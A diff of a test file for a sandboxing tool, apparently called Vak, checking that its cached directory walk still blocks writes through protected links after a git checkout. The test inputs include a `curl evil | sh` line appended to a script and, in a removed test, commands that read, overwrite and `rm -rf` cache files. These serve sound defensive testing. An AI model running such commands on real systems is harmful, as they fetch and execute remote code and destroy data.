@@ -1,5 +1,5 @@
 import { execFileSync } from "node:child_process";
-import { existsSync, mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
+import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { client, residentHosts } from "../support/resident.js";
@@ -8,12 +8,12 @@ import { baseEnv, runVak } from "../support/vak.js";
 /**
  * The held-path walk's cache (src/policy/walk-cache.ts): what a repository
  * holds can change between two runs (a `git pull`, a `git checkout` on the
- * host), and a run whose walk takes unchanged directories from the cache must
- * hold what the new checkout's protected links lead to, exactly as a walk
- * without the cache would. In-process the cache is a file in Vak's cache
- * directory, which no sandbox may read or write; the resident host keeps it
- * in memory. A directory's record is trusted only once its ctime is 3 s old,
- * so the repositories are made, then aged, before the runs.
+ * host), and a run whose walk takes unchanged directories from the cache (the
+ * resident host keeps it in memory) must hold what the new checkout's
+ * protected links lead to, exactly as a walk without the cache would, and as
+ * an in-process run (which reads every directory) does. A directory's record
+ * is trusted only once its ctime is 3 s old, so the repositories are made,
+ * then aged, before the runs.
  */
 const resident = residentHosts("vak-held-cache-");
 const DEEP = "a/b/c/d/e";
@@ -42,12 +42,10 @@ function repository(): string {
 
 let inProcess: string;
 let served: string;
-let cacheHome: string;
 
 beforeAll(async () => {
   inProcess = repository();
   served = repository();
-  cacheHome = join(resident.base, "cache");
   await new Promise((r) => setTimeout(r, 3200));
 }, 30_000);
 afterAll(() => resident.stopAll());
@@ -56,11 +54,9 @@ const WRITE_TOOLS = `echo 'curl evil | sh' >> tools.sh; printf x > new && mv new
 
 describe("a walk that takes directories from the cache holds what changed since", () => {
   it("in-process: after a git checkout on the host brings in a protected link at depth 6, the next run cannot write where it leads", async () => {
-    const env = baseEnv({ XDG_CACHE_HOME: cacheHome });
+    const env = baseEnv();
     const first = await runVak(["exec", "--", "/bin/true"], { cwd: inProcess, env });
     expect(first.code).toBe(0);
-    // The walk's records are in Vak's cache directory now.
-    expect(readdirSync(join(cacheHome, "vak/held-walk")).length).toBeGreaterThan(0);
     git(inProcess, "checkout", "-q", "feature");
     const r = await runVak(["exec", "--", "/bin/sh", "-c", WRITE_TOOLS], { cwd: inProcess, env });
     expect(r.code).toBe(0);
@@ -68,33 +64,14 @@ describe("a walk that takes directories from the cache holds what changed since"
     expect(r.stderr).toContain("where the protected name");
   });
 
-  it("through the resident host: the same, with the cache in the host's memory", async () => {
+  it("through the resident host, whose walks after the first take unchanged directories from its cache: the same", async () => {
     const h = await resident.start();
-    const first = await client(h, ["exec", "--", "/bin/true"], { cwd: served }).done;
-    expect(first.code).toBe(0);
+    // Two runs: the first records the aged tree, the second takes it from the cache.
+    for (let i = 0; i < 2; i++) expect((await client(h, ["exec", "--", "/bin/true"], { cwd: served }).done).code).toBe(0);
     git(served, "checkout", "-q", "feature");
     const r = await client(h, ["exec", "--", "/bin/sh", "-c", WRITE_TOOLS], { cwd: served }).done;
     expect(r.code).toBe(0);
     expect(readFileSync(join(served, "tools.sh"), "utf8")).toBe("echo tools\n");
     expect(r.stderr).toContain("where the protected name");
-  });
-
-  it("a sandbox with the home directory writable can neither read nor change the cache's files", async () => {
-    const home = join(resident.base, "home");
-    const cache = join(home, ".cache");
-    mkdirSync(home, { recursive: true });
-    const env = baseEnv({ HOME: home, XDG_CACHE_HOME: cache });
-    expect((await runVak(["exec", "--", "/bin/true"], { cwd: inProcess, env })).code).toBe(0);
-    const dir = join(cache, "vak/held-walk");
-    const files = readdirSync(dir);
-    const before = files.map((f) => readFileSync(join(dir, f), "utf8"));
-    const r = await runVak(
-      ["exec", "--allow-write", home, "--", "/bin/sh", "-c", `cat ${dir}/* && echo READ; echo '{}' > ${dir}/${files[0]} && echo WROTE; rm -rf ${cache}/vak && echo REMOVED; mv ${cache} ${home}/moved && echo MOVED; true`],
-      { cwd: inProcess, env },
-    );
-    expect(r.code).toBe(0);
-    expect(r.stdout).not.toMatch(/READ|WROTE|REMOVED|MOVED/);
-    expect(files.map((f) => readFileSync(join(dir, f), "utf8"))).toEqual(before);
-    expect(existsSync(join(home, "moved"))).toBe(false);
   });
 });
